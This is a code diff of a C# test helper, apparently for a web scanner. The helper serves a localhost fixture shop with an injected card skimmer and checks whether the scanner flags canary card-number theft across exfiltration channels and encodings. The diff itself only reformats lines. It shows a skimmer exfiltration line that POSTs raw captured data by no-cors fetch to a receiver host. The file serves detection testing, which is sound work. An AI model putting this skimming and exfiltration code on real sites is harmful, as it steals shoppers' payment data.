@@ -29,7 +29,9 @@ internal static class CanaryMatrix
         ("split", "t => t.match(/.{1,6}/gs)"),
     ];
 
-    /// <summary>JavaScript with the receiver's origin <c>u</c>, and the data as text <c>d</c>, as it came <c>raw</c>, and fit for a URL <c>q</c>.</summary>
+    /// <summary>
+    /// JavaScript with the receiver's origin <c>u</c>, and the data as text <c>d</c>, as it came <c>raw</c>, and fit for a URL <c>q</c>.
+    /// </summary>
     public static readonly IReadOnlyList<(string Name, string Code)> Channels =
     [
         ("fetch", "fetch(u + '/c', { method: 'POST', mode: 'no-cors', body: raw }).catch(() => {})"),
@@ -88,7 +90,8 @@ internal static class CanaryMatrix
 
     /// <summary>All pairs of these that exist.</summary>
     public static List<(string Channel, string Encoding)> Cells(IEnumerable<string> channels, IEnumerable<string> encodings) =>
-        [.. channels.SelectMany(channel => encodings.Select(encoding => (channel, encoding))).Where(static cell => Exists(cell.channel, cell.encoding))];
+        [.. channels.SelectMany(channel => encodings.Select(encoding => (channel, encoding)))
+            .Where(static cell => Exists(cell.channel, cell.encoding))];
 
     /// <summary>Serves a shop with a skimmer for these cells, and says how to crawl it.</summary>
     public static CrawlPlan Serve(FixtureSite site, IReadOnlyList<(string Channel, string Encoding)> cells)
@@ -99,7 +102,8 @@ internal static class CanaryMatrix
             if (cell.Channel == "navigation") send = $"Object.assign({send}, {{ waits: true }})";
             return $"['http://{HostOf(cell)}:{site.Port}', {Encodings.Single(encoding => encoding.Name == cell.Encoding).Code}, {send}]";
         });
-        site.Html("shop.localhost/checkout", Checkout).Script("shop.localhost/skimmer.js", Skimmer.Replace("CELLS", string.Join(",\n", code), StringComparison.Ordinal));
+        site.Html("shop.localhost/checkout", Checkout)
+            .Script("shop.localhost/skimmer.js", Skimmer.Replace("CELLS", string.Join(",\n", code), StringComparison.Ordinal));
         foreach (var cell in cells) site.Answer($"{HostOf(cell)}/socket", ListenAsync);
         return site.Plan(["shop.localhost/checkout"], [.. cells.Select(HostOf)]);
     }
@@ -107,7 +111,8 @@ internal static class CanaryMatrix
     /// <summary>The cells whose theft the capture does not tell.</summary>
     public static List<(string Channel, string Encoding)> Missed(Capture capture, IEnumerable<(string Channel, string Encoding)> cells) =>
         [.. cells.Where(cell => !capture.Findings.Any(finding =>
-            finding.Rule == "canary-exfiltration" && finding.Title.Contains("card number", StringComparison.Ordinal) && finding.Title.Contains(HostOf(cell), StringComparison.Ordinal)))];
+            finding.Rule == "canary-exfiltration" && finding.Title.Contains("card number", StringComparison.Ordinal)
+                && finding.Title.Contains(HostOf(cell), StringComparison.Ordinal)))];
 
     private static string HostOf((string Channel, string Encoding) cell) => $"{cell.Channel}-{cell.Encoding}.localhost";
 
